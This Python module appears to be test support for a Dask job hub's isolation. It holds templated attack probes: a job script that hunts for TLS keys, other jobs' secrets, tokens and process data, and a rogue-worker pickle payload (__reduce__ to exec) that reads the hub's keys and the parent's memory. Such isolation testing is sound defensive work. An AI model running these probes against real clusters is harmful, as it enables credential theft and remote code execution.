"""What attacks a Dask cluster that runs jobs: a job's program, and a worker that is not ours."""

from __future__ import annotations

from looking_around import ATTEMPT

LOOK_AROUND = (
    ATTEMPT
    + """\
def talk(port):
    with socket.create_connection(("127.0.0.1", port), 1) as plain:
        with ssl._create_unverified_context().wrap_socket(plain) as sock:
            return sock.send(b"x")
def sockets():
    for number in range(3, 300):
        try: yield socket.socket(fileno=os.dup(number)).getpeername()
        except OSError: pass
keys, mine = Path({keys!r}), Path(os.environ["LEPTON_JOB_INPUTS"]).parent
for name in ("ca.pem", "me.pem", "me.key"):
    attempt(name, (keys / name).read_text)
attempt("keys' folder", lambda: os.listdir(keys))
attempt("connections", lambda: [*sockets()])
attempt("scheduler", lambda: talk({scheduler}))
attempt("worker", lambda: talk({worker}))
attempt("client", lambda: __import__("distributed").Client({address!r}, timeout=1))
bad = ("DASK", "TLS", "TOKEN", "HUB", str(keys))
attempt("environment", lambda: [b for one in os.environ.items() for b in bad if b in str(one)])
attempt("other jobs", lambda: [path for path in mine.parent.iterdir() if path != mine])
attempt("another job", Path({other!r}, "given/secret.txt").read_text)
attempt("Dask's files", lambda: [n for n in os.listdir(mine.parents[1]) if n != "lepton-jobs"])
attempt("hub", lambda: os.listdir({hub!r}))
own = str(os.getpid())
attempt("processes", lambda: [p for p in os.listdir("/proc") if p.isdigit() and p != own])
"""
)
"""A job's program: it prints a line for each thing that it looks for."""

TRAITOR = """\
from lepton_hub.jobs.cluster import worker_steps

CODE = {code!r}

class Bomb:
    def __reduce__(self):
        return exec, (CODE, {{}})

async def on_worker(step, told, data, dask_worker):
    return {{"free": 99, "code": Bomb()}}, b""

worker_steps.on_worker = on_worker
"""
"""Loaded into a Dask worker: each of its answers is a pickle that runs a program."""

IN_THE_COURIER = """\
import os, socket, subprocess
said = []
def attempt(name, work):
    try:
        found = work()
    except BaseException as error:
        found = ""
    said.append(f"{{name}} {{'FOUND' if found else 'nothing'}}")
parent = os.getppid()
attempt("keys", lambda: open({hub!r} + "/keys.json").read())
attempt("database", lambda: open({hub!r} + "/hub.sqlite", "rb").read())
attempt("list", lambda: os.listdir({hub!r}))
attempt("write", lambda: open({hub!r} + "/x", "w").write("x"))
attempt("parent's environment", lambda: open(f"/proc/{{parent}}/environ").read())
attempt("parent's memory", lambda: open(f"/proc/{{parent}}/mem", "rb"))
attempt("signal", lambda: os.kill(parent, 0) is None)
def unix():
    with socket.socket(socket.AF_UNIX) as sock:
        return sock.connect({unix!r}) is None
attempt("Unix socket", unix)
cat = ["cat", {hub!r} + "/keys.json"]
attempt("program", lambda: subprocess.run(cat, capture_output=True).stdout)
attempt("environment", lambda: [name for name in os.environ if "TOKEN" in name or "HUB" in name])
with socket.create_connection(("127.0.0.1", {port})) as told:
    told.sendall("\\n".join(said).encode())
"""
"""What the process that speaks with the cluster runs when it opens that worker's answer."""
